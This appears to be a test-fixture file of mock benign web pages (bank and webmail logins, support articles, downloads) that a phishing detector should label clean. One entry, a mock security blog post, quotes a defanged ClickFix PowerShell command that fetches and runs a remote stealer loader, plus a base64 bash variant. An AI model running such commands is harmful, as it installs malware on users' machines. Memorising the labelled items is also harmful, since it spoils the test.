import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, tess, MS_LOGO, mark } from '../parts/zq-kit.js';
import { jsRoute, jsonRoute, fileRoute, pe, zip } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-clean-owa-own-domain',
  label: 'clean',
  kind: 'webmail-own-domain',
  url: 'https://mail.harwoodlogistics.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.harwoodlogistics.com%2fowa%2f',
  body: doc('Outlook', `<div class="o"><div class="logo">${MS_LOGO}<span>Outlook</span></div><form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off"><input type="hidden" name="destination" value="https://mail.harwoodlogistics.com/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<label>Domain\\user name:</label><input id="username" name="username" placeholder="domain\\user name"><label>Password:</label><input id="password" name="password" type="password"><button>sign in</button></form><p class="n">Harwood Logistics Ltd. Authorised use only. Contact the Service Desk on ext. 4400 for password resets.</p></div>`, { css: `body{background:#fff}.o{max-width:380px;margin:14vh auto}.logo span{display:block;font-size:34px;font-weight:300;color:#0072c6;margin:10px 0}label{display:block;font-size:13px;margin-top:10px}input{width:100%;padding:6px;border:1px solid #ccc}button{margin-top:16px;background:none;border:0;font-size:20px;color:#333}.n{font-size:11px;color:#777}` }),
},

{
  id: 'zq-clean-sparkasse-own-login',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://www.sparkasse-rheinbergen.de/de/home/onlinebanking/login.html',
  body: doc('Online-Banking Login - Sparkasse Rheinbergen', `<header class="s"><span class="lg">&#9679; Sparkasse Rheinbergen</span><nav>Privatkunden &middot; Firmenkunden &middot; Ihre Sparkasse</nav></header><main>
<h1>Online-Banking</h1><form method="post" action="/de/home/onlinebanking/login.html/jcr:content/login.form"><label>Anmeldename oder Legitimations-ID</label><input name="anmeldename" autocomplete="username"><label>PIN</label><input name="pin" type="password" autocomplete="current-password"><button>Anmelden</button></form>
<div class="i"><h3>Sicherheitshinweis</h3><p>Wir fragen Sie niemals per E-Mail, SMS oder Telefon nach PIN oder TAN. Die Registrierung der S-pushTAN-App erfolgt ausschließlich mit dem Registrierungsbrief per Post.</p><p>Sperr-Notruf: <b>116 116</b> &middot; Kundenservice: 0221 987 654-0</p></div></main>`, { lang: 'de', css: `.s{background:#ff0000;color:#fff;padding:14px 6vw;display:flex;justify-content:space-between}.lg{font-weight:700}main{max-width:520px;margin:30px auto;padding:0 14px}label{display:block;margin-top:12px}input{width:100%;padding:10px;border:1px solid #888}button{margin-top:14px;background:#ff0000;color:#fff;border:0;padding:11px 30px}.i{background:#f4f4f4;padding:14px;margin-top:30px;font-size:14px}` }),
},

{
  id: 'zq-clean-ms-password-help-article',
  label: 'clean',
  kind: 'password-help-article',
  url: 'https://support.microsoft.com/en-us/account-billing/reset-a-forgotten-microsoft-account-password-eff4f067-5042-c1a3-fe72-b04d60556c37',
  body: doc('Reset a forgotten Microsoft account password - Microsoft Support', `<header style="padding:14px 6vw;border-bottom:1px solid #eee">${MS_LOGO} &nbsp; Support</header><article style="max-width:760px;margin:30px auto;padding:0 16px">
<h1>Reset a forgotten Microsoft account password</h1><p>If you've forgotten your password for a Microsoft account, there are a few ways to sign in again.</p>
<ol><li>Go to <a href="https://account.live.com/password/reset">Reset your password</a> and enter the email address, phone number or Skype name you use to sign in.</li><li>Choose to receive a security code by email or text.</li><li>Enter the code and create a new password.</li></ol>
<h2>Beware of fake password-reset messages</h2><p>Microsoft will never ask you for your password in an email or text, and we never send unsolicited messages asking you to "verify" or "re-validate" your account. Only enter your password on pages whose address starts with <b>https://login.live.com</b> or <b>https://login.microsoftonline.com</b>.</p>
<p>Was this information helpful? <button>Yes</button> <button>No</button></p></article>`),
},

{
  id: 'zq-clean-security-blog-clickfix-writeup',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://blog.tessellate.site/trust-and-safety/fake-captcha-campaign-on-small-business-sites',
  body: doc('How we found and removed 1,400 fake CAPTCHA overlays — Tessellate Trust & Safety', `<article><p class="k">Trust &amp; Safety &middot; 18 November 2026</p><h1>How we found and removed 1,400 fake CAPTCHA overlays from customer sites</h1>
<p>In October, attackers who had phished Tessellate account credentials began injecting a small script into the custom-code block of small-business sites. Visitors saw a reCAPTCHA look-alike that asked them to press <kbd>Win</kbd>+<kbd>R</kbd>, paste and hit Enter. This technique is widely known as <em>ClickFix</em>.</p>
<h2>What the script copied</h2><p>Clicking the checkbox silently placed a command like this on the clipboard (defanged):</p>
<pre>powershell -w h -nop -c "iex(iwr -useb hxxps://cdn-verify-captcha[.]icu/v.txt)" # ✅ I am not a robot - reCAPTCHA Verification ID: 7731</pre>
<p>The trailing comment is what the victim sees in the Run box; everything before it downloads and runs a Lumma Stealer loader. A macOS variant used:</p><pre>/bin/bash -c "$(echo &lt;base64&gt; | base64 -d)"</pre>
<h2>What we changed</h2><ul><li>Custom-code blocks now require re-authentication with 2FA.</li><li>We scan published custom code for clipboard writes combined with Run-dialog instructions.</li><li>Affected site owners were notified and their sessions revoked.</li></ul>
<h2>Indicators</h2><table><tr><td>cdn-verify-captcha[.]icu</td><td>payload host</td></tr><tr><td>fontpack-cdn[.]com</td><td>payload host</td></tr></table><p>If you run a site on Tessellate and see a "verify you are human" box you didn't add, <a href="https://tessellate.site/report">report it</a>.</p></article>`, { css: `article{max-width:740px;margin:40px auto;padding:0 16px}.k{color:#888;font-size:14px}pre{background:#f6f8fa;padding:12px;white-space:pre-wrap;font-size:13px}td{border:1px solid #ddd;padding:6px 10px;font-family:monospace}` }),
},

{
  id: 'zq-clean-security-blog-seed-phrase-warning',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://www.ledger.com/academy/security/the-safest-way-to-use-metamask',
  body: doc('Never share your 24-word recovery phrase | Ledger Academy', `<article style="max-width:740px;margin:40px auto;padding:0 16px"><p style="color:#888">Ledger Academy &middot; Security</p><h1>Never share your 24-word recovery phrase</h1>
<p>Your Secret Recovery Phrase is the master key to your crypto. Anyone who has it can take your funds, and no one can reverse that transaction.</p>
<h2>Common scams</h2><ul><li><b>"Wallet sync" or "validate your wallet" websites</b> that ask you to type your 12 or 24 words into a form.</li><li><b>Fake firmware updates</b> asking you to "re-verify" your device by entering your recovery phrase on a computer.</li><li><b>Free mints and airdrops</b> that ask you to sign a <code>setApprovalForAll</code> or a Permit2 message giving a stranger control of your tokens.</li></ul>
<p>Ledger will never ask for your recovery phrase. Not by email, not by phone, not through a website, not through Ledger Live. The only place you should ever enter it is on your Ledger device itself.</p>
<h2>Check your approvals</h2><p>Use a token-approval checker to review and revoke old allowances regularly.</p></article>`),
},

{
  id: 'zq-clean-bot-check-ticketing',
  label: 'clean',
  kind: 'bot-check-legit',
  url: 'https://tickets.riverside-arena.co.uk/queue/winter-fest-2026',
  body: doc('Checking your browser — Riverside Arena Tickets', `<div class="q"><h1>Riverside Arena Tickets</h1><p>We're checking your browser before letting you into the queue for <b>Winter Fest 2026</b>. This only takes a few seconds.</p>
<div class="spin"></div><p id="st" style="font-size:13px;color:#777">Verifying&hellip;</p><noscript>Please enable JavaScript to join the queue.</noscript></div>
<script>
(async function(){var t0=performance.now();var r=await fetch('/queue/api/challenge',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({tz:Intl.DateTimeFormat().resolvedOptions().timeZone,w:screen.width})}).then(function(x){return x.json()}).catch(function(){return {ok:true,next:'/queue/winter-fest-2026/wait'}});
document.getElementById('st').textContent='Done. Redirecting to the waiting room…';setTimeout(function(){location.href=r.next},Math.max(0,1500-(performance.now()-t0)))})();
</script>`, { css: `.q{max-width:520px;margin:16vh auto;text-align:center}.spin{width:40px;height:40px;border:4px solid #eee;border-top-color:#2563eb;border-radius:50%;margin:20px auto;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}` }),
  routes: {
    'tickets.riverside-arena.co.uk/queue/api/challenge': jsonRoute({ ok: true, next: '/queue/winter-fest-2026/wait' }),
    'tickets.riverside-arena.co.uk/queue/winter-fest-2026/wait': htmlRoute(doc('Waiting room — Riverside Arena', `<div style="max-width:520px;margin:16vh auto;text-align:center"><h1>You're in the queue</h1><p>Your place: <b>2,418</b>. Estimated wait: 9 minutes. Keep this tab open.</p></div>`)),
  },
},

{
  id: 'zq-clean-url-shortener-hop',
  label: 'clean',
  kind: 'shortener-legit',
  url: 'https://tess.ly/oakfield-fixtures',
  routes: {
    'tess.ly/oakfield-fixtures': redirectRoute(301, 'https://oakfield-lawn-tennis.tessellate.site/fixtures'),
    'oakfield-lawn-tennis.tessellate.site/fixtures': htmlRoute(tess({
      title: 'Fixtures — Oakfield LTC',
      site: 'Oakfield LTC',
      accent: '#1f6b3a',
      nav: ['Club', 'Coaching', 'Fixtures', 'Members'],
      body: `<section class="tb-section"><h1>Winter league fixtures</h1><table><tr><td>Sat 6 Dec</td><td>Men's 1st</td><td>v Hampton Wick (H)</td></tr><tr><td>Sun 7 Dec</td><td>Ladies' 2nd</td><td>at Teddington (A)</td></tr><tr><td>Sat 13 Dec</td><td>Mixed</td><td>v Kew (H)</td></tr></table></section>`,
    })),
  },
},

{
  id: 'zq-clean-firefox-official-download',
  label: 'clean',
  kind: 'installer-download',
  url: 'https://www.mozilla.org/en-GB/firefox/download/thanks/',
  body: doc('Download Firefox — Thanks!', `<main style="max-width:700px;margin:10vh auto;text-align:center"><h1>Thanks for downloading Firefox!</h1><p>Your download should begin automatically. Didn't work? <a id="dl" href="https://download.mozilla.org/?product=firefox-stub&amp;os=win&amp;lang=en-GB">Try downloading again</a>.</p>
<ol style="text-align:left;display:inline-block"><li>Open the installer file from your Downloads.</li><li>Click "Yes" when Windows asks to allow changes.</li><li>Wait for Firefox to finish installing.</li></ol></main>
<script>setTimeout(function(){location.href=document.getElementById('dl').href},1200)</script>`),
  routes: { 'download.mozilla.org/?s=2': fileRoute(pe({ strings: ['Mozilla Corporation', 'Firefox Installer', 'https://download-installer.cdn.mozilla.net'], size: 70000 }), 'application/x-msdownload', 'Firefox Installer.exe') },
},

{
  id: 'zq-clean-brokerage-isa-landing',
  label: 'clean',
  kind: 'investment-legit',
  url: 'https://www.vanguardinvestor.co.uk/investing-explained/stocks-shares-isa',
  body: doc('Stocks & Shares ISA | Vanguard UK Investor', `<header style="padding:18px 6vw;border-bottom:1px solid #ddd"><b style="color:#96151d">Vanguard</b> &middot; Investor</header><main style="max-width:760px;margin:30px auto;padding:0 16px">
<h1>Stocks &amp; Shares ISA</h1><p>Invest up to £20,000 each tax year and pay no UK income tax or capital gains tax on your returns. Start with £500 or £100 a month.</p><p><b>Account fee:</b> 0.15% a year (capped at £375), plus fund costs from 0.06%.</p>
<p class="risk">Capital at risk. The value of investments, and the income from them, may fall or rise and investors may get back less than they invested. Tax treatment depends on your individual circumstances and may change.</p>
<a href="https://secure.vanguardinvestor.co.uk/Register" style="background:#96151d;color:#fff;padding:12px 24px;text-decoration:none">Open an ISA</a> <a href="https://secure.vanguardinvestor.co.uk/Login">Log in</a>
<p style="font-size:12px;color:#777">Vanguard Investments UK, Limited is authorised and regulated by the Financial Conduct Authority.</p></main>`, { css: `.risk{background:#fff4e5;padding:12px;font-size:14px}` }),
},

{
  id: 'zq-clean-apple-support-phone',
  label: 'clean',
  kind: 'support-phone-legit',
  url: 'https://support.apple.com/en-gb/contact',
  body: doc('Contact Apple Support - Apple Support (UK)', `<main style="max-width:760px;margin:40px auto;padding:0 16px"><h1>Contact Apple Support</h1><p>Get help online, by phone or in person.</p>
<h2>Call us</h2><p>United Kingdom: <a href="tel:08007072010">0800 107 6285</a> &middot; Mon–Fri 08:00–20:00, Sat–Sun 09:00–18:00</p>
<h2>Avoid scams</h2><p>Apple will never call you unexpectedly to say your device is infected, and we never ask you to pay with gift cards. If a web page tells you to call a number to fix a virus, close it.</p>
<p><a href="https://getsupport.apple.com/">Start a support request online</a> &middot; <a href="https://www.apple.com/uk/retail/">Find an Apple Store</a></p></main>`),
},

{
  id: 'zq-clean-job-application-cv-upload',
  label: 'clean',
  kind: 'job-application-legit',
  url: 'https://careers.northpeak-accounting.co.uk/jobs/trainee-accountant-bristol',
  body: tess({
    title: 'Trainee Accountant (ACCA) — Careers at Northpeak',
    site: 'Northpeak Accounting',
    accent: '#0b5cab',
    nav: ['Services', 'Team', 'Careers'],
    body: `<section class="tb-section" style="max-width:680px"><h1>Trainee Accountant (ACCA), Bristol</h1><p>£24,000–£27,000 + study support &middot; Full time, hybrid (3 days in office)</p><p>Join a friendly 14-person practice looking after small businesses and charities in the South West. We pay for your ACCA exams and give you study leave.</p>
<form class="tb-form" method="post" action="/_tess/forms/apply" enctype="multipart/form-data"><label>Name</label><input name="name"><label>Email</label><input name="email" type="email"><label>CV (PDF or Word)</label><input type="file" name="cv" accept=".pdf,.doc,.docx"><label>Why Northpeak?</label><textarea name="cover" rows="4"></textarea><button class="tb-btn" style="margin-top:12px">Apply</button></form>
<p style="font-size:13px;color:#666">We will never ask you to pay for training, equipment or background checks.</p></section>`,
  }),
},

{
  id: 'zq-clean-national-lottery-results',
  label: 'clean',
  kind: 'lottery-legit',
  url: 'https://www.national-lottery.co.uk/results/lotto/draw-history?s=2',
  body: doc('Lotto results | The National Lottery', `<main style="max-width:760px;margin:30px auto;padding:0 16px"><h1>Lotto draw history</h1><table><tr><th>Draw date</th><th>Balls</th><th>Bonus</th><th>Jackpot</th></tr><tr><td>Sat 28 Nov 2026</td><td>4 11 19 27 38 52</td><td>33</td><td>£5,800,000</td></tr><tr><td>Wed 25 Nov 2026</td><td>2 9 14 30 41 58</td><td>21</td><td>£3,900,000</td></tr></table>
<p>Think you've won? <a href="https://www.national-lottery.co.uk/sign-in">Sign in</a> to check your tickets. The National Lottery will never email you to say you've won if you haven't bought a ticket, and never asks for a fee to release a prize.</p><p style="font-size:12px">Play responsibly. 18+.</p></main>`),
},

{
  id: 'zq-clean-csv-export-blob',
  label: 'clean',
  kind: 'blob-download-legit',
  url: 'https://app.ledgerleaf.app/reports/transactions',
  body: doc('Transactions — Ledgerleaf', `<main style="max-width:900px;margin:30px auto;padding:0 16px"><h1>Transactions</h1><button id="x">Export CSV</button><table id="t"><tr><th>Date</th><th>Description</th><th>Category</th><th>Amount</th></tr><tr><td>2026-11-02</td><td>ADOBE CREATIVE CLD</td><td>Software</td><td>-19.97</td></tr><tr><td>2026-11-04</td><td>Invoice #0142 Harper&amp;Cole</td><td>Income</td><td>1250.00</td></tr><tr><td>2026-11-09</td><td>GWR TRAINS</td><td>Travel</td><td>-48.60</td></tr></table></main>
<script>
document.getElementById('x').onclick=function(){var rows=[].map.call(document.querySelectorAll('#t tr'),function(r){return [].map.call(r.cells,function(c){return '"'+c.textContent.replace(/"/g,'""')+'"'}).join(',')});
var b=new Blob([rows.join('\\n')],{type:'text/csv'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='transactions-2026-11.csv';a.click();};
</script>`),
},

{
  id: 'zq-clean-coupon-copy-clipboard',
  label: 'clean',
  kind: 'clipboard-legit',
  url: 'https://crumbandcrust.tessellate.site/offers',
  body: tess({
    title: 'Offers — Crumb & Crust',
    site: 'Crumb &amp; Crust',
    accent: '#c2410c',
    nav: ['Menu', 'Wholesale', 'Offers'],
    body: `<section class="tb-section" style="text-align:center"><h1>10% off your first online order</h1><p>Use this code at checkout:</p><p style="font:700 28px monospace;border:2px dashed #c2410c;display:inline-block;padding:10px 24px" id="code">CRUMB10</p><br><button class="tb-btn" id="cp">Copy code</button><p style="font-size:12px;color:#777">Valid until 31 January on orders over £15.</p></section>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('code').textContent);this.textContent='Copied!'}</script>`,
  }),
},

{
  id: 'zq-clean-docusign-own-domain-signing',
  label: 'clean',
  kind: 'esign-own-domain',
  url: 'https://app.docusign.com/documents/details/8a1c2e44-51bd-4f0e-9e7a-2b3c4d5e6f70',
  body: doc('DocuSign', `<div style="background:#1e1e1e;color:#fff;padding:12px 4vw"><b>DocuSign</b></div><main style="max-width:680px;margin:30px auto;padding:0 16px"><h2>Tenancy Agreement — 14 Elm Row, Flat 2</h2><p>From: Lettings Team, Marchmont Property Management</p>
<p><label><input type="checkbox" id="agree"> I agree to use electronic records and signatures.</label></p><button id="go" disabled style="background:#ffc820;border:0;padding:10px 26px;font-weight:700">CONTINUE</button>
<p style="font-size:12px;color:#777;margin-top:30px">Do not share this email or link. DocuSign will never ask for your email password.</p></main>
<script>document.getElementById('agree').onchange=function(){document.getElementById('go').disabled=!this.checked};document.getElementById('go').onclick=function(){location.href='/documents/details/8a1c2e44-51bd-4f0e-9e7a-2b3c4d5e6f70/sign'}</script>`),
},

{
  id: 'zq-clean-netflix-own-login',
  label: 'clean',
  kind: 'brand-login-own-domain',
  url: 'https://www.netflix.com/gb/login',
  body: doc('Netflix', `<div style="background:#000;min-height:100vh;color:#fff"><div style="padding:22px 4vw;color:#e50914;font:900 32px Arial">NETFLIX</div><div style="max-width:450px;margin:20px auto;background:rgba(0,0,0,.75);padding:48px">
<h1>Sign In</h1><form method="post" action="/gb/login"><input type="hidden" name="flow" value="websiteSignUp"><input type="hidden" name="authURL" value="1732838400000.Z6cQ4w"><input name="userLoginId" placeholder="Email or mobile number" style="width:100%;padding:16px;margin:8px 0;background:#333;border:0;color:#fff"><input name="password" type="password" placeholder="Password" style="width:100%;padding:16px;margin:8px 0;background:#333;border:0;color:#fff"><button style="width:100%;padding:14px;background:#e50914;color:#fff;border:0;margin-top:18px">Sign In</button></form>
<p>OR</p><a href="/gb/LoginHelp" style="color:#fff">Use a sign-in code</a><p style="color:#737373">New to Netflix? <a href="/" style="color:#fff">Sign up now.</a></p></div></div>`),
},

{
  id: 'zq-clean-tessellate-password-reset',
  label: 'clean',
  kind: 'password-reset-own-domain',
  url: 'https://app.tessellate.site/forgot',
  body: doc('Reset your password — Tessellate', `<div style="max-width:400px;margin:10vh auto;background:#fff;padding:34px;border-radius:14px;box-shadow:0 2px 10px rgba(0,0,0,.06)"><b>&#9670; Tessellate</b><h1>Reset your password</h1><p>Enter the email address you use for Tessellate and we'll send you a link to choose a new password. The link expires in 30 minutes.</p>
<form method="post" action="/api/auth/forgot"><input type="hidden" name="csrf" value="7c9e6679f7c94a1f"><input name="email" type="email" placeholder="you@example.com" style="width:100%;padding:10px;border:1px solid #ccc;border-radius:8px"><button style="width:100%;margin-top:14px;padding:11px;border:0;border-radius:8px;background:#111;color:#fff">Send reset link</button></form><p style="font-size:13px"><a href="/login">Back to log in</a></p></div>`, { css: `body{background:#f7f7fb}` }),
},

{
  id: 'zq-clean-kraken-own-login',
  label: 'clean',
  kind: 'crypto-exchange-own-domain',
  url: 'https://www.kraken.com/sign-in?s=2',
  body: doc('Sign in | Kraken', `<div style="max-width:400px;margin:10vh auto;font-family:Arial"><b style="color:#7132f5;font-size:28px">kraken</b><h1>Sign in</h1><form method="post" action="/api/internal/auth/signin"><label>Email or username</label><input name="username" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:8px"><label>Password</label><input name="password" type="password" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:8px"><button style="width:100%;padding:13px;background:#7132f5;color:#fff;border:0;border-radius:10px;margin-top:10px">Continue</button></form>
<p style="font-size:13px"><a href="/sign-in/forgot-password">Forgot password?</a> &middot; <a href="/sign-up">Create account</a></p><p style="font-size:12px;color:#666">Kraken will never ask for your password, 2FA codes or to move funds to a "safe wallet" over phone or chat.</p></div>`),
},

{
  id: 'zq-clean-uni-it-mailbox-phishing-notice',
  label: 'clean',
  kind: 'password-help-article',
  url: 'https://it.uni-westfalen.de/en/security/current-phishing',
  body: doc('Current phishing campaigns — IT Services', `<main style="max-width:760px;margin:30px auto;padding:0 16px"><p style="color:#777">IT Services &middot; Security</p><h1>Current phishing campaigns</h1>
<h2>"Mailbox verification" forms (November 2026)</h2><p>Staff received emails from "IT Helpdesk" linking to a third-party form asking for their university email password to avoid "deactivation" during a "mailbox migration". This is phishing. We do not run mailbox migrations that require you to submit your password anywhere.</p>
<p>Our only login page is <b>https://login.uni-westfalen.de</b>. If you entered your password, change it immediately at <a href="https://idm.uni-westfalen.de/password">idm.uni-westfalen.de/password</a> and call the service desk on +49 251 83-31600.</p>
<h2>"Storage quota exceeded"</h2><p>Zimbra/Roundcube look-alike pages claiming your mailbox is full are also phishing. Your real quota is shown in Outlook Web under Settings.</p></main>`),
},

{
  id: 'zq-clean-freeware-portable-download',
  label: 'clean',
  kind: 'installer-download',
  url: 'https://greenshot.tessellate.site/download',
  body: tess({
    title: 'Download Greenshot — free screenshot tool',
    site: 'Greenshot',
    accent: '#2e7d32',
    nav: ['Features', 'Download', 'FAQ', 'Donate'],
    body: `<section class="tb-section" style="max-width:700px"><h1>Download Greenshot 1.3.290</h1><p>Greenshot is free and open-source (GPL). No ads, no bundled toolbars.</p>
<p><a class="tb-btn" href="/files/Greenshot-INSTALLER-1.3.290-RELEASE.exe">Installer (.exe, 2.1 MB)</a> <a class="tb-btn" style="background:#555" href="https://github.com/greenshot/greenshot/releases">All releases on GitHub</a></p>
<p style="font-size:13px">SHA-256: <code>a3f1c9e0b7d24e8f9a61c5d3b2e07f4a9c8d1e6b5a7f3c2d0e9b8a7c6d5e4f3a</code>. The installer is signed by "Greenshot Team".</p></section>`,
  }),
  routes: { 'greenshot.tessellate.site/files/Greenshot-INSTALLER-1.3.290-RELEASE.exe': { status: 200, headers: { 'content-type': 'application/x-msdownload', 'content-disposition': 'attachment; filename="Greenshot-INSTALLER-1.3.290-RELEASE.exe"' }, body: pe({ strings: ['Greenshot', 'Inno Setup', 'https://getgreenshot.org'], size: 50000 }) } },
},
];
